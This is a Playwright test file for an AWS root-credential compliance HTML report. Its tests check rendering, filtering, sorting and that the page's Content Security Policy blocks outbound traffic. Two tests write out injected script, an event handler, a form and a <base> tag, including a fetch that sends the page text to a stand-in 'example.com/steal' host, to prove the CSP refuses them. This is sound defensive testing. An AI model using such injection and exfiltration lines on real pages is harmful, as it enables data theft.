/**
 * The HTML page in a real headless Chromium (the one inside @sparticuz/chromium, or ROOTGUARD_CHROMIUM,
 * driven by playwright-core; tests/cli/compliance-chromium.ts). Deliberately no skip: CI cannot pass without running it.
 */
import * as assert from "node:assert/strict";
import { promises as fs } from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser, Page } from "playwright-core";
import { PAGE_ROWS, renderHtml } from "../../src/cli/compliance/html";
import type { ComplianceReport } from "../../src/cli/compliance/report-model";
import { launchChromium } from "./compliance-chromium";
import { countByStatus, sampleReport } from "./compliance-helpers";
import { sourceLine } from "../../src/cli/compliance/table";

describe("compliance: HTML page in headless Chromium", function () {
    this.timeout(60_000);
    let browser: Browser;
    let dir: string;
    let page: Page;
    let url: string;
    let requests: string[];
    let problems: string[];
    let failed: [string, string][] = [];
    let leaked: string[] = [];
    const report: ComplianceReport = sampleReport(300, { withInventory: true });

    before(async () => {
        browser = await launchChromium();
        dir = await fs.mkdtemp(path.join(os.tmpdir(), "rootguard-page-"));
        const file = path.join(dir, "compliance.html");
        await fs.writeFile(file, renderHtml(report));
        url = pathToFileURL(file).href;
    });

    after(async () => {
        await browser?.close();
        if (dir) await fs.rm(dir, { recursive: true, force: true });
    });

    beforeEach(async () => {
        page = await browser.newPage();
        requests = [];
        problems = [];
        failed = [];
        leaked = [];
        // Anything that got as far as the network layer would come through here.
        await page.route(
            (u) => u.protocol !== "file:",
            (route) => {
                leaked.push(route.request().url());
                return route.abort();
            },
        );
        page.on("request", (r) => requests.push(r.url()));
        page.on("console", (m) => {
            if (m.type() === "error" || m.type() === "warning") problems.push(m.text());
        });
        page.on("pageerror", (e) => problems.push(String(e)));
        page.on("requestfailed", (r) => failed.push([r.url(), r.failure()?.errorText ?? ""]));
        await page.goto(url);
    });

    afterEach(async () => {
        assert.deepEqual(leaked, [], "no request reached the network");
        await page.close();
    });

    const visibleRows = (): Promise<number> => page.locator("#evaluations tbody tr:not([hidden])").count();
    const shown = (): Promise<string | null> => page.locator("#shown").textContent();

    it("renders every evaluation, runs its script under the CSP without errors, and requests nothing but itself", async () => {
        assert.equal(await page.locator("h1").textContent(), "Root credential compliance");
        const total = report.evaluations.length;
        assert.ok(total > PAGE_ROWS, "the sample is larger than one page");
        assert.equal(await page.locator("#evaluations tbody tr").count(), total);
        assert.equal(await visibleRows(), PAGE_ROWS, "the first page is laid out, the rest waits");
        assert.equal(await shown(), `${total} of ${total} rows (showing ${PAGE_ROWS})`, "the script ran");
        await page.locator("#all").click();
        assert.equal(await visibleRows(), total);
        assert.equal(await shown(), `${total} of ${total} rows`);
        assert.equal(await page.locator("#more").isHidden(), true);
        assert.equal(await page.locator("#generated").getAttribute("datetime"), report.generatedAt);
        const withKeys = report.inventory!.filter((i) => i.keys.length > 0).length;
        assert.ok(withKeys > 0);
        assert.equal(await page.locator("#inventory tbody tr").count(), withKeys);
        assert.equal(
            await page.locator("#inventory-count").textContent(),
            `${report.inventory!.length} accounts inventoried; ${report.inventory!.length - withKeys} without root access keys (not listed).`,
        );
        assert.deepEqual(problems, []);
        assert.deepEqual(requests, [url]);
    });

    it("summary counts match the data and the rows", async () => {
        const expected = countByStatus(report);
        const card = async (id: string): Promise<number> => Number(await page.locator(`[data-count="${id}"]`).textContent());
        for (const [status, n] of Object.entries(expected)) {
            assert.equal(await card(status), n, status);
            assert.equal(await page.locator(`#evaluations tbody tr[data-status="${status}"]`).count(), n, `${status} rows`);
        }
        assert.equal(await card("evaluations"), report.evaluations.length);
        assert.equal(await card("accounts"), new Set(report.evaluations.map((e) => e.accountId)).size);
        const nonCompliantAccounts = new Set(report.evaluations.filter((e) => e.compliance === "NON_COMPLIANT").map((e) => e.accountId))
            .size;
        assert.equal(await card("non-compliant-accounts"), nonCompliantAccounts);
    });

    it("filters as you type, by status, and by clicking a summary card", async () => {
        await page.locator("#filter").fill("100000000007");
        assert.equal(await visibleRows(), 2, "one account, two rules");
        assert.equal(await shown(), `2 of ${report.evaluations.length} rows`);
        // Terms combine: account and rule.
        await page.locator("#filter").fill("100000000007 mfa");
        assert.equal(await visibleRows(), 1);
        await page.locator("#filter").fill("");
        assert.equal(await visibleRows(), PAGE_ROWS);
        await page.locator("#more").click();
        assert.equal(await visibleRows(), report.evaluations.length, "one more page shows the remaining rows");

        await page.locator("#status").selectOption("NON_COMPLIANT");
        assert.equal(await visibleRows(), countByStatus(report).NON_COMPLIANT);
        await page.locator("#filter").fill("eu-west-1");
        const both = report.evaluations.filter((e) => e.compliance === "NON_COMPLIANT" && e.region === "eu-west-1").length;
        assert.equal(await visibleRows(), both);
        await page.locator("#filter").fill("");
        await page.locator("#status").selectOption("");

        await page.locator('button.card[data-status="NOT_APPLICABLE"]').click();
        assert.equal(await visibleRows(), countByStatus(report).NOT_APPLICABLE);
        assert.equal(await page.locator('button.card[data-status="NOT_APPLICABLE"]').getAttribute("aria-pressed"), "true");
        await page.locator('button.card[data-status="NOT_APPLICABLE"]').click();
        assert.equal(await visibleRows(), PAGE_ROWS, "a second click clears the filter (back to the first page)");
        assert.equal(await shown(), `${report.evaluations.length} of ${report.evaluations.length} rows (showing ${PAGE_ROWS})`);
        assert.deepEqual(requests, [url]);
    });

    it("sorts by column, ascending then descending", async () => {
        const column = (i: number): Promise<string[]> => page.locator(`#evaluations tbody tr td:nth-child(${i + 1})`).allTextContents();
        const accounts = report.evaluations.map((e) => e.accountId);

        await page.locator('th button[data-col="0"]').click();
        assert.deepEqual(await column(0), [...accounts].sort());
        assert.equal(await page.locator("th").nth(0).getAttribute("aria-sort"), "ascending");
        await page.locator('th button[data-col="0"]').click();
        assert.deepEqual(await column(0), [...accounts].sort().reverse());
        assert.equal(await page.locator("th").nth(0).getAttribute("aria-sort"), "descending");

        // Last evaluated sorts by time, with "never evaluated" first.
        await page.locator('th button[data-col="4"]').click();
        const times = await column(4);
        const sorted = [...times].sort((a, b) => (a === "-" ? -1 : b === "-" ? 1 : a < b ? -1 : a > b ? 1 : 0));
        assert.deepEqual(times, sorted);
        assert.equal(await page.locator("th").nth(0).getAttribute("aria-sort"), "none");

        // Compliance sorts by severity, not alphabetically.
        await page.locator('th button[data-col="3"]').click();
        const statuses = await page.locator("#evaluations tbody tr").evaluateAll((rows) => rows.map((r) => r.getAttribute("data-status")));
        const order = ["NON_COMPLIANT", "INSUFFICIENT_DATA", "COMPLIANT", "NOT_APPLICABLE"];
        assert.deepEqual(
            statuses,
            [...statuses].sort((a, b) => order.indexOf(a!) - order.indexOf(b!)),
        );

        // Filtering still applies to the re-ordered rows.
        await page.locator("#filter").fill("100000000014");
        assert.equal(await visibleRows(), 2);
        assert.deepEqual(requests, [url]);
    });

    it("cannot send anything even when asked to: the CSP blocks fetch and images", async () => {
        // A string, so the test compiles without the DOM lib; it runs in the page.
        const outcome = await page.evaluate(`(async () => {
            const img = new Image();
            const imgDone = new Promise((resolve) => {
                img.onload = () => resolve("loaded");
                img.onerror = () => resolve("blocked");
            });
            img.src = "https://example.com/pixel.png";
            const fetched = await fetch("https://example.com/beacon").then(() => "sent", () => "blocked");
            return [fetched, await imgDone];
        })()`);
        assert.deepEqual(outcome, ["blocked", "blocked"]);
        // Chromium announces the image, then refuses it before the network: "csp", and nothing reached the wire.
        assert.deepEqual(
            requests.filter((r) => r !== url).map((r) => [r, failed.find(([f]) => f === r)?.[1]]),
            [["https://example.com/pixel.png", "csp"]],
        );
        assert.deepEqual(leaked, []);
    });

    it("refuses anything injected into the page: inline script, event handler, form submission, <base>", async () => {
        // Stands in for a future escaping bug: markup spliced into the finished page as if a value had slipped
        // through unescaped. Only the page's own script (allowed by its hash) may run.
        const injected = renderHtml(report)
            .replace("</head>", '<base href="https://example.com/">\n</head>')
            .replace(
                "</main>",
                `<script>document.title = "pwned"; fetch("https://example.com/steal?" + encodeURIComponent(document.body.innerText));</script>
<img id="inj-img" src="https://example.com/pixel.png" onerror="document.title = 'handler ran'">
<form id="inj-form" action="https://example.com/collect" method="post"><input name="d" value="data"><button id="inj-submit">send</button></form>
</main>`,
            );
        const file = path.join(dir, "injected.html");
        await fs.writeFile(file, injected);
        const target = pathToFileURL(file).href;
        await page.addInitScript(`window.__violations = [];
            document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(e.effectiveDirective));`);
        await page.goto(target);
        assert.equal(
            await shown(),
            `${report.evaluations.length} of ${report.evaluations.length} rows (showing ${PAGE_ROWS})`,
            "the page's own script ran",
        );
        await page.locator("#inj-submit").dispatchEvent("click");
        await page.waitForTimeout(300);
        // Read in the page: after a refused form submission Playwright's own title and URL getters wait on a
        // navigation that never comes.
        assert.equal(
            await page.evaluate("document.title"),
            `rootguard compliance — ${sourceLine(report)}`,
            "no injected script or handler ran",
        );
        assert.equal(await page.evaluate("location.href"), target, "the form was not submitted");
        assert.equal(await page.evaluate("document.baseURI"), target, "<base> was ignored");
        const violations = new Set((await page.evaluate("window.__violations")) as string[]);
        for (const directive of ["script-src-elem", "script-src-attr", "form-action", "base-uri"])
            assert.ok(violations.has(directive), `${directive} refused (saw ${[...violations].join(", ")})`);
        assert.deepEqual(
            requests.filter((r) => !r.startsWith("file:")),
            ["https://example.com/pixel.png"],
            "only the image was announced, and the CSP refused it before the network",
        );
        assert.equal(failed.find(([u]) => u === "https://example.com/pixel.png")?.[1], "csp");
    });

    it("console links open AWS Config for the row's region and rule, in a new tab without referrer", async () => {
        const link = page.locator("#evaluations tbody tr").first().locator("a");
        const first = report.evaluations[0];
        assert.equal(
            await link.getAttribute("href"),
            `https://${first.region}.console.aws.amazon.com/config/home?region=${first.region}#/rules/details?configRuleName=${encodeURIComponent(first.configRuleName)}`,
        );
        assert.equal(await link.getAttribute("rel"), "noopener noreferrer");
        assert.equal(await link.getAttribute("target"), "_blank");
    });
});
